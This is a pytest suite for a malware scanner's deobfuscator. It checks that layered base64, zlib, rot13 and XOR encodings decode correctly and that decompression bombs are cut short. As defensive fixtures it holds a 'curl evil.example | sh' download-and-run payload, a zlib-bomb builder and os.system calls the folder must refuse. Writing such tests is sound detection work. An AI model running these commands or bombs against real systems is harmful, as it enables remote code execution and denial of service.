"""The deobfuscator (malhug.code.fold): every decoders.toml entry, layered payloads, bombs,
hostile arguments, codecs outside the allowlist, and a property test that nothing raises."""
from __future__ import annotations

import base64
import binascii
import bz2
import codecs
import gzip
import lzma
import sys
import time
import tracemalloc
import zlib
from importlib import resources

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from malhug.code import fold
from malhug.code.fold import (
    NOT_CONSTANT,
    FoldBudget,
    FunctionRef,
    fold_binop,
    fold_call,
    fold_fstring,
    fold_method,
    fold_subscript,
    fold_unaryop,
    foldable_names,
)

if sys.version_info >= (3, 11):
    import tomllib
else:  # pragma: no cover
    import tomli as tomllib

_TABLES = tomllib.loads(resources.files("malhug.rules").joinpath("decoders.toml").read_text("utf-8"))
MIB = 1024 * 1024


def call(qualname, *args, **kwargs):
    return fold_call(qualname, args, kwargs, FoldBudget())


def method(receiver, name, *args, **kwargs):
    return fold_method(receiver, name, args, kwargs, FoldBudget())


# ------------------------------------------------------------------ every [calls] entry

_A85 = base64.a85encode(b"hello")
CALL_EXAMPLES = {
    "b64decode": (("aGk=",), {}, b"hi"),
    "standard_b64decode": ((b"aGk=",), {}, b"hi"),
    "urlsafe_b64decode": (("-_8=",), {}, b"\xfb\xff"),
    "b32decode": (("NBUQ====",), {}, b"hi"),
    "b32hexdecode": (("D1KG====",), {}, b"hi"),
    "b16decode": (("6869",), {}, b"hi"),
    "b85decode": ((base64.b85encode(b"hello"),), {}, b"hello"),
    "a85decode": ((_A85,), {}, b"hello"),
    "decodebytes": ((b"aGk=\n",), {}, b"hi"),
    "b64encode": ((b"hi",), {}, b"aGk="),
    "standard_b64encode": ((b"hi",), {}, b"aGk="),
    "urlsafe_b64encode": ((b"\xfb\xff",), {}, b"-_8="),
    "b32encode": ((b"hi",), {}, b"NBUQ===="),
    "b32hexencode": ((b"hi",), {}, b"D1KG===="),
    "b16encode": ((b"hi",), {}, b"6869"),
    "b85encode": ((b"hello",), {}, base64.b85encode(b"hello")),
    "a85encode": ((b"hello",), {}, _A85),
    "encodebytes": ((b"hi",), {}, b"aGk=\n"),
    "a2b_base64": ((b"aGk=",), {}, b"hi"),
    "b2a_base64": ((b"hi",), {}, b"aGk=\n"),
    "a2b_hex": (("6869",), {}, b"hi"),
    "b2a_hex": ((b"hi",), {}, b"6869"),
    "a2b_qp": ((b"h=C3=A9",), {}, b"h\xc3\xa9"),
    "b2a_qp": ((b"h\xc3\xa9",), {}, b"h=C3=A9"),
    "a2b_uu": ((binascii.b2a_uu(b"hi"),), {}, b"hi"),
    "b2a_uu": ((b"hi",), {}, binascii.b2a_uu(b"hi")),
    "crc32": ((b"hi",), {}, zlib.crc32(b"hi")),
    "adler32": ((b"hi",), {}, zlib.adler32(b"hi")),
    "codecs_decode": ((b"6869", "hex"), {}, b"hi"),
    "codecs_encode": (("hello",), {"encoding": "rot13"}, "uryyb"),
    "zlib_decompress": ((zlib.compress(b"hi"),), {}, b"hi"),
    "zlib_compress": ((b"hi",), {}, zlib.compress(b"hi")),
    "gzip_decompress": ((gzip.compress(b"hi", mtime=0) * 2,), {}, b"hihi"),
    "bz2_decompress": ((bz2.compress(b"hi") * 2,), {}, b"hihi"),
    "lzma_decompress": ((lzma.compress(b"hi"),), {}, b"hi"),
    "str": ((b"h\xc3\xa9", "utf-8"), {}, "hé"),
    "bytes": (([104, 105],), {}, b"hi"),
    "bytearray": (("hi", "ascii"), {}, bytearray(b"hi")),
    "int": (("ff", 16), {}, 255),
    "float": (("1.5",), {}, 1.5),
    "bool": ((1,), {}, True),
    "list": (("ab",), {}, ["a", "b"]),
    "tuple": (([1, 2],), {}, (1, 2)),
    "chr": ((104,), {}, "h"),
    "ord": (("h",), {}, 104),
    "hex": ((255,), {}, "0xff"),
    "oct": ((8,), {}, "0o10"),
    "bin": ((5,), {}, "0b101"),
    "repr": (("a",), {}, "'a'"),
    "ascii": (("é",), {}, "'\\xe9'"),
    "format": ((255, "x"), {}, "ff"),
    "str_maketrans": (("ab", "cd"), {}, {97: 99, 98: 100}),
    "bytes_maketrans": ((b"ab", b"cd"), {}, bytes.maketrans(b"ab", b"cd")),
    "bytes_fromhex": (("68 69",), {}, b"hi"),
    "bytearray_fromhex": (("6869",), {}, bytearray(b"hi")),
    "int_from_bytes": ((b"\x01\x00", "big"), {}, 256),
    "reversed": (("abc",), {}, ("c", "b", "a")),
    "sorted": (([3, 1, 2],), {"reverse": True}, [3, 2, 1]),
    "range": ((65, 68), {}, (65, 66, 67)),
    "slice": ((None, None, -1), {}, slice(None, None, -1)),
    "len": (("abc",), {}, 3),
    "min": (([3, 1, 2],), {}, 1),
    "max": ((3, 1, 2), {}, 3),
    "sum": (([1, 2, 3],), {}, 6),
    "zip": (("ab", [1, 2]), {}, (("a", 1), ("b", 2))),
    "abs": ((-3,), {}, 3),
    "round": ((2.567, 2), {}, 2.57),
    "divmod": ((7, 2), {}, (3, 1)),
    "pow": ((2, 10, 1000), {}, 24),
    "map": ((FunctionRef("builtins.chr"), [104, 105]), {}, ("h", "i")),
    "filter": ((None, [0, 1, "", "a"]), {}, (1, "a")),
    "reduce": ((FunctionRef("operator.add"), ["a", "b", "c"]), {}, "abc"),
    "add": (("a", "b"), {}, "ab"),
    "concat": ((b"a", b"b"), {}, b"ab"),
    "sub": ((5, 3), {}, 2),
    "mul": (("ab", 2), {}, "abab"),
    "truediv": ((1, 4), {}, 0.25),
    "floordiv": ((7, 2), {}, 3),
    "mod": (("%s!", "hi"), {}, "hi!"),
    "pow_op": ((2, 8), {}, 256),
    "lshift": ((1, 8), {}, 256),
    "rshift": ((256, 8), {}, 1),
    "and_": ((12, 10), {}, 8),
    "or_": ((12, 10), {}, 14),
    "xor": ((0x41, 0x20), {}, 0x61),
    "neg": ((3,), {}, -3),
    "pos": ((3,), {}, 3),
    "invert": ((0,), {}, -1),
    "not_": ((0,), {}, True),
    "getitem": (("abc", slice(None, None, -1)), {}, "cba"),
}


def test_every_call_key_has_an_example_and_an_implementation():
    keys = set(_TABLES["calls"].values())
    assert keys == set(CALL_EXAMPLES)
    assert keys == set(fold._CALLS)


@pytest.mark.parametrize("qualname,key", sorted(_TABLES["calls"].items()))
def test_call_entry(qualname, key):
    args, kwargs, expected = CALL_EXAMPLES[key]
    result = call(qualname, *args, **kwargs)
    assert result == expected
    assert type(result) is type(expected)
    assert qualname in foldable_names()


# ------------------------------------------------------------------ every [methods] entry

_TEXT = "Hello\tWorld 42"
_RECEIVERS = {
    "str": _TEXT,
    "bytes": _TEXT.encode(),
    "bytearray": bytearray(_TEXT.encode()),
    "int": 1000,
    "float": 1.5,
    "list": [3, 1, 3],
    "tuple": (3, 1, 3),
    "dict": {"a": 1},
}


def _method_args(kind, name, receiver):
    """Arguments of the receiver's own type for each method, and one more for the odd ones."""
    if kind in ("list", "tuple"):
        return {"count": (3,), "index": (1,)}.get(name, ())
    if kind == "dict":
        return ("a",) if name == "get" else ()
    if kind == "int":
        return (2, "big") if name == "to_bytes" else ()
    if kind == "float":
        return ()
    text = receiver
    table = {
        "center": (20,), "ljust": (20,), "rjust": (20,), "zfill": (20,), "expandtabs": (4,),
        "count": (text[1:3],), "find": (text[1:3],), "index": (text[1:3],),
        "rfind": (text[1:3],), "rindex": (text[1:3],), "startswith": (text[:2],),
        "endswith": (text[-2:],), "removeprefix": (text[:2],), "removesuffix": (text[-2:],),
        "partition": (text[-3:-2],), "rpartition": (text[-3:-2],), "split": (text[-3:-2],),
        "rsplit": (text[-3:-2],), "strip": (text[:1],), "lstrip": (text[:1],),
        "rstrip": (text[-1:],), "join": ([text[:2], text[2:4]],),
        "replace": (text[:1], text[1:2] * 3), "encode": ("utf-16",), "decode": ("latin-1",),
        "fromhex": ("6869",), "format_map": ({},),
        "translate": ({72: "J"},) if kind == "str" else (bytes.maketrans(b"H", b"J"),),
        "maketrans": (text[:1], text[1:2]),
    }
    return table.get(name, ())


_METHOD_CASES = sorted(
    (kind, name) for kind, names in _TABLES["methods"].items() for name in names
)


@pytest.mark.parametrize("kind,name", _METHOD_CASES)
def test_method_entry(kind, name):
    receiver = _RECEIVERS[kind]
    args = _method_args(kind, name, receiver)
    expected = getattr(receiver, name)(*args)
    if name in ("keys", "values", "items"):
        expected = list(expected)
    assert method(receiver, name, *args) == expected
    unbound = f"builtins.{kind}.{name}"
    assert unbound in foldable_names()
    if unbound not in _TABLES["calls"]:  # static methods take no receiver
        assert call(unbound, receiver, *args) == expected


def test_methods_are_not_dunders_and_mutators_are_absent():
    names = {name for names in _TABLES["methods"].values() for name in names}
    assert not any(name.startswith("_") for name in names)
    assert not names & {"append", "extend", "insert", "pop", "remove", "reverse", "sort",
                        "clear", "update", "setdefault", "popitem"}


# ------------------------------------------------------------------ every [codecs] entry

_TEXT_SAMPLE = {"ascii": "hello", "latin_1": "héllo"}
_BINARY = {
    "rot13": ("uryyb", "hello"),
    "hex": (b"6869", b"hi"),
    "base64": (b"aGk=\n", b"hi"),
    "zlib": (zlib.compress(b"hi"), b"hi"),
    "bz2": (bz2.compress(b"hi"), b"hi"),
    "quopri": (b"h=C3=A9", b"h\xc3\xa9"),
}


@pytest.mark.parametrize("name,key", sorted(_TABLES["codecs"].items()))
def test_codec_entry(name, key):
    assert key in fold._CODECS
    spelled = name.upper().replace("_", "-")  # Python's normalisation is case and dash blind
    if key in _BINARY:
        encoded, plain = _BINARY[key]
        assert call("codecs.decode", encoded, spelled) == plain
        assert call("codecs.decode", call("codecs.encode", plain, name), name) == plain
        if key != "rot13":
            assert method(encoded, "decode", name) is NOT_CONSTANT  # not a text encoding
        return
    text = _TEXT_SAMPLE.get(key, "héllo ✓\n")
    encoded = codecs.encode(text, key)
    assert call("codecs.decode", encoded, spelled) == text
    assert call("codecs.encode", text, name) == encoded
    assert method(text, "encode", name) == encoded
    assert method(encoded, "decode", spelled) == text
    assert call("builtins.str", encoded, name) == text
    assert call("builtins.bytes", text, name) == encoded


def test_error_handlers_are_an_allowlist():
    assert method(b"h\xffi", "decode", "utf-8", "ignore") == "hi"
    assert method(b"h\xffi", "decode", "utf-8", "replace") == "h\ufffdi"
    assert method(b"h\xffi", "decode", "utf-8", "evil_handler") is NOT_CONSTANT
    assert call("codecs.decode", b"6869", "hex", "ignore") is NOT_CONSTANT  # strict only


# ------------------------------------------------------------------ layered obfuscation


def test_layered_base64_zlib_rot13_reversed():
    payload = "import os; os.system('curl evil.example | sh')"
    layered = base64.b64encode(zlib.compress(codecs.encode(payload[::-1], "rot13").encode()))
    budget = FoldBudget()
    step = fold_call("base64.b64decode", (layered.decode(),), {}, budget)
    step = fold_call("zlib.decompress", (step,), {}, budget)
    step = fold_method(step, "decode", ("utf-8",), {}, budget)
    step = fold_call("codecs.decode", (step, "rot_13"), {}, budget)
    step = fold_subscript(step, slice(None, None, -1), budget)
    assert step == payload
    assert budget.steps_used == 5 and not budget.exhausted


def test_join_of_mapped_character_codes():
    codes = [ord(c) for c in "__import__('os')"] * 2000  # longer than the step budget
    budget = FoldBudget(max_steps=100)
    chars = fold_call("builtins.map", (FunctionRef("builtins.chr"), codes), {}, budget)
    assert fold_method("", "join", (chars,), {}, budget) == "__import__('os')" * 2000
    assert not budget.exhausted


def test_xor_ord_and_reduce_layers():
    budget = FoldBudget()
    hidden = [c ^ 0x5A for c in b"os.system"]
    codes = [fold_binop("BitXor", c, 0x5A, budget) for c in hidden]
    assert fold_call("builtins.bytes", (codes,), {}, budget) == b"os.system"
    joined = fold_call(
        "functools.reduce", (FunctionRef("operator.concat"), ["ev", "al", "(", ")"]), {}, budget
    )
    assert joined == "eval()"
    assert fold_call("builtins.int", ("0x41", 0), {}, budget) == 65


def test_formatting_forms():
    budget = FoldBudget()
    assert fold_binop("Mod", "%s.%s", ("os", "system"), budget) == "os.system"
    assert fold_binop("Mod", b"%(m)s", {b"m": b"os"}, budget) == b"os"
    assert fold_method("{}.{name}", "format", ("os",), {"name": "popen"}, budget) == "os.popen"
    assert fold_method("{m}", "format_map", ({"m": "pty"},), {}, budget) == "pty"
    parts = ["__im", ("port", -1, None), ("__", 115, ">2")]
    assert fold_fstring(parts, budget) == "__import__"
    assert fold_fstring([(104, -1, "c")], budget) == "h"
    assert fold_fstring(["port ", 8080], budget) == "port 8080"
    assert fold_method("{0.__class__}", "format", ("x",), {}, budget) is NOT_CONSTANT


def test_operators_and_subscripts():
    budget = FoldBudget()
    assert fold_binop("Add", "ev", "al", budget) == "eval"
    assert fold_binop("Mult", 2, b"ab", budget) == b"abab"
    assert fold_binop("BitXor", 0x41, 0x20, budget) == 0x61
    assert fold_unaryop("USub", 3, budget) == -3
    assert fold_subscript("metsys", slice(None, None, -1), budget) == "system"
    assert fold_subscript(b"abc", 0, budget) == 97
    assert fold_subscript({"k": "v"}, "k", budget) == "v"
    assert fold_binop("MatMult", 1, 2, budget) is NOT_CONSTANT


def test_translate_with_a_constant_table():
    table = call("builtins.str.maketrans", "abc", "xyz")
    assert method("aabbcc", "translate", table) == "xxyyzz"
    assert call("builtins.str.translate", "cab", table) == "zxy"


# ------------------------------------------------------------------ bounds


def _zlib_bomb(gigabytes: int = 1) -> bytes:
    """A valid zlib stream inflating to `gigabytes` GiB of zeros, built without holding them:
    after a full flush the compressor starts afresh, so one compressed MiB repeats."""
    mib = bytes(MIB)
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = deflate.compress(mib) + deflate.flush(zlib.Z_FULL_FLUSH)
    count = 1024 * gigabytes
    adler = 1
    for _ in range(count):
        adler = zlib.adler32(mib, adler)
    return b"\x78\xda" + block * count + deflate.flush() + adler.to_bytes(4, "big")


def test_zlib_bomb_is_cut_short_quickly_in_little_memory():
    bomb = _zlib_bomb()
    assert len(bomb) < 2 * MIB
    budget = FoldBudget()
    tracemalloc.start()
    started = time.monotonic()
    try:
        result = fold_call("zlib.decompress", (bomb,), {}, budget)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert result is NOT_CONSTANT
    assert budget.exhausted
    assert time.monotonic() - started < 5
    assert peak < 40 * MIB
    assert budget.output_used == 0


@pytest.mark.parametrize(
    "qualname,data",
    [
        ("gzip.decompress", gzip.compress(bytes(4 * MIB), mtime=0)),
        ("bz2.decompress", bz2.compress(bytes(4 * MIB))),
        ("lzma.decompress", lzma.compress(bytes(4 * MIB))),
        ("codecs.decode", zlib.compress(bytes(4 * MIB))),
    ],
)
def test_every_decompressor_respects_the_budget(qualname, data):
    args = (data, "zlib") if qualname == "codecs.decode" else (data,)
    small = FoldBudget(max_output=MIB)
    assert fold_call(qualname, args, {}, small) is NOT_CONSTANT
    assert small.exhausted
    assert fold_call(qualname, args, {}, FoldBudget()) == bytes(4 * MIB)


@pytest.mark.parametrize(
    "attempt",
    [
        lambda b: fold_binop("Mult", "a", 10**12, b),
        lambda b: fold_binop("Mult", [1, 2], 10**12, b),
        lambda b: fold_binop("Pow", 2, 10**12, b),
        lambda b: fold_binop("LShift", 1, 10**12, b),
        lambda b: fold_binop("Mod", "%999999999d", 1, b),
        lambda b: fold_call("builtins.bytes", (10**12,), {}, b),
        lambda b: fold_call("builtins.range", (10**12,), {}, b),
        lambda b: fold_call("builtins.pow", (3, 2**100_000, 2**100_000 + 1), {}, b),
        lambda b: fold_call("builtins.round", (5, -(10**8)), {}, b),
        lambda b: fold_call("builtins.format", (1, ">999999999"), {}, b),
        lambda b: fold_method("{:>999999999}", "format", (1,), {}, b),
        lambda b: fold_method("a", "center", (10**12,), {}, b),
        lambda b: fold_method("a" * 1000, "replace", ("a", "b" * 100_000), {}, b),
        lambda b: fold_method("\t" * 1000, "expandtabs", (10**9,), {}, b),
        lambda b: fold_method(10, "to_bytes", (10**12, "big"), {}, b),
        lambda b: fold_fstring([("x", -1, ">999999999")], b),
        lambda b: fold_method("", "join", (["a" * 1000] * 100_000,), {}, b),
    ],
)
def test_growth_is_priced_before_it_happens(attempt):
    budget = FoldBudget(max_output=MIB)
    started = time.monotonic()
    assert attempt(budget) is NOT_CONSTANT
    assert time.monotonic() - started < 1


def test_output_and_steps_are_cumulative():
    budget = FoldBudget(max_output=100, max_steps=3)
    assert fold_binop("Mult", "a", 60, budget) == "a" * 60
    assert fold_binop("Mult", "a", 60, budget) is NOT_CONSTANT
    assert budget.exhausted and budget.output_used == 60
    budget = FoldBudget(max_steps=2)
    for _ in range(2):
        assert fold_binop("Add", 1, 1, budget) == 2
    assert fold_binop("Add", 1, 1, budget) is NOT_CONSTANT
    assert budget.exhausted


# ------------------------------------------------------------------ bad input


class _SneakyStr(str):
    def upper(self):  # pragma: no cover - must never be called
        raise AssertionError("a subclass method ran")


@pytest.mark.parametrize(
    "attempt",
    [
        lambda b: fold_call("base64.b64decode", ("not base64!",), {"validate": True}, b),
        lambda b: fold_call("base64.b64decode", ("aGk",), {}, b),
        lambda b: fold_call("binascii.unhexlify", ("zz",), {}, b),
        lambda b: fold_call("builtins.bytes.fromhex", ("6",), {}, b),
        lambda b: fold_call("zlib.decompress", (b"not zlib",), {}, b),
        lambda b: fold_call("zlib.decompress", (zlib.compress(b"hello")[:-3],), {}, b),
        lambda b: fold_call("gzip.decompress", (b"\x1f\x8bjunk",), {}, b),
        lambda b: fold_call("lzma.decompress", (b"junk",), {}, b),
        lambda b: fold_call("lzma.decompress", (b"x",), {"filters": [{"id": 1}]}, b),
        lambda b: fold_call("builtins.chr", (-1,), {}, b),
        lambda b: fold_call("builtins.chr", ("a",), {}, b),
        lambda b: fold_call("builtins.int", ("zz", 10), {}, b),
        lambda b: fold_call("builtins.str", (FunctionRef("builtins.chr"),), {}, b),
        lambda b: fold_call("builtins.map", (FunctionRef("os.system"), ["id"]), {}, b),
        lambda b: fold_call("builtins.map", ("builtins.chr", [104]), {}, b),
        lambda b: fold_call("builtins.chr", (object(),), {}, b),
        lambda b: fold_call("builtins.chr", (104,), {"bogus": 1}, b),
        lambda b: fold_call("os.system", ("id",), {}, b),
        lambda b: fold_call("builtins.eval", ("1",), {}, b),
        lambda b: fold_call("builtins.str.__class__", ("x",), {}, b),
        lambda b: fold_call(None, (), {}, b),
        lambda b: fold_call("builtins.len", "abc", {}, b),
        lambda b: fold_method(_SneakyStr("x"), "upper", (), {}, b),
        lambda b: fold_method("x", "__class__", (), {}, b),
        lambda b: fold_method([1], "append", (2,), {}, b),
        lambda b: fold_method(object(), "upper", (), {}, b),
        lambda b: fold_binop("Add", "a", 1, b),
        lambda b: fold_binop("Add", _SneakyStr("a"), "b", b),
        lambda b: fold_binop("FloorDiv", 1, 0, b),
        lambda b: fold_subscript("abc", 10, b),
        lambda b: fold_subscript("abc", slice(0.5, None), b),
        lambda b: fold_fstring([("x", 7, None)], b),
        lambda b: fold_fstring("abc", b),
        lambda b: fold_call("builtins.chr", (104,), {}, "not a budget"),
    ],
)
def test_bad_input_is_not_constant(attempt):
    assert attempt(FoldBudget()) is NOT_CONSTANT


def test_unlisted_codecs_import_nothing():
    names = ["idna", "evil_codec", "cp1252", "mbcs", "punycode", "uu", "../../evil",
             "encodings.idna", "utf-7", "undefined", "oem", "palmos"]
    fold.foldable_names()  # the tables are loaded before the snapshot
    before = set(sys.modules)
    for name in names:
        budget = FoldBudget()
        for attempt in (
            lambda: fold_call("codecs.decode", (b"abc", name), {}, budget),
            lambda: fold_call("codecs.encode", ("abc", name), {}, budget),
            lambda: fold_method(b"abc", "decode", (name,), {}, budget),
            lambda: fold_method("abc", "encode", (), {"encoding": name}, budget),
            lambda: fold_call("builtins.str", (b"abc", name), {}, budget),
            lambda: fold_call("builtins.bytes", ("abc", name), {}, budget),
        ):
            assert attempt() is NOT_CONSTANT
    assert set(sys.modules) == before
    assert "evil_codec" not in sys.modules


# ------------------------------------------------------------------ never raises

_SCALARS = (
    st.none()
    | st.booleans()
    | st.integers()
    | st.sampled_from([0, -1, 10**9, 2**64, 10**12, -(10**12), 36, 16])
    | st.floats()
    | st.text(max_size=12)
    | st.sampled_from(["utf-8", "rot13", "hex", "zlib", "idna", "strict", "big", "{}", "%s"])
    | st.binary(max_size=12)
    | st.sampled_from([b"\x78\x9c", zlib.compress(b"hi"), b"aGk=", b"%s%d"])
    | st.builds(bytearray, st.binary(max_size=6))
)
_VALUES = st.recursive(
    _SCALARS,
    lambda inner: st.lists(inner, max_size=4)
    | st.tuples(inner, inner)
    | st.dictionaries(st.text(max_size=4) | st.integers(0, 300), inner, max_size=3),
    max_leaves=8,
)
_NAMES = sorted(foldable_names())
_ODD = st.sampled_from([object(), _SneakyStr("x"), slice(None, None, -1), Ellipsis, 1j])
_ARGUMENT = _VALUES | _ODD | st.builds(FunctionRef, st.sampled_from(_NAMES) | st.text(max_size=8))
_KEYWORD = st.sampled_from(["encoding", "errors", "base", "wbits", "key", "reverse", "sep",
                            "altchars", "validate", "initial", "width", "x"])
_FUZZ = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])


def _budget() -> FoldBudget:
    return FoldBudget(max_output=256 * 1024, max_steps=200)


@_FUZZ
@given(
    qualname=st.sampled_from(_NAMES) | st.text(max_size=20),
    args=st.lists(_ARGUMENT, max_size=4),
    kwargs=st.dictionaries(_KEYWORD, _ARGUMENT, max_size=2),
)
def test_fold_call_never_raises(qualname, args, kwargs):
    fold_call(qualname, tuple(args), kwargs, _budget())


_METHOD_NAMES = sorted({name for names in _TABLES["methods"].values() for name in names})


@_FUZZ
@given(
    receiver=_VALUES | _ODD,
    name=st.sampled_from(_METHOD_NAMES) | st.text(max_size=10),
    args=st.lists(_ARGUMENT, max_size=3),
    kwargs=st.dictionaries(_KEYWORD, _ARGUMENT, max_size=2),
)
def test_fold_method_never_raises(receiver, name, args, kwargs):
    fold_method(receiver, name, tuple(args), kwargs, _budget())


_OPS = ["Add", "Sub", "Mult", "Div", "FloorDiv", "Mod", "Pow", "LShift", "RShift", "BitOr",
        "BitXor", "BitAnd", "MatMult", "USub", "Not"]
_SLICES = st.builds(slice, st.none() | st.integers(), st.none() | st.integers(),
                    st.none() | st.integers(-3, 3) | st.floats())


@_FUZZ
@given(op=st.sampled_from(_OPS) | st.text(max_size=6), left=_ARGUMENT, right=_ARGUMENT)
def test_fold_binop_and_unaryop_never_raise(op, left, right):
    fold_binop(op, left, right, _budget())
    fold_unaryop(op, left, _budget())


@_FUZZ
@given(value=_ARGUMENT, index=_ARGUMENT | _SLICES)
def test_fold_subscript_never_raises(value, index):
    fold_subscript(value, index, _budget())


@_FUZZ
@given(
    parts=st.lists(
        st.text(max_size=6)
        | st.tuples(_ARGUMENT, st.sampled_from([-1, 115, 114, 97, 0]),
                    st.none() | st.text(max_size=6) | st.sampled_from([">20", ",", ".3f", "x"]))
        | _ARGUMENT,
        max_size=4,
    )
)
def test_fold_fstring_never_raises(parts):
    fold_fstring(parts, _budget())
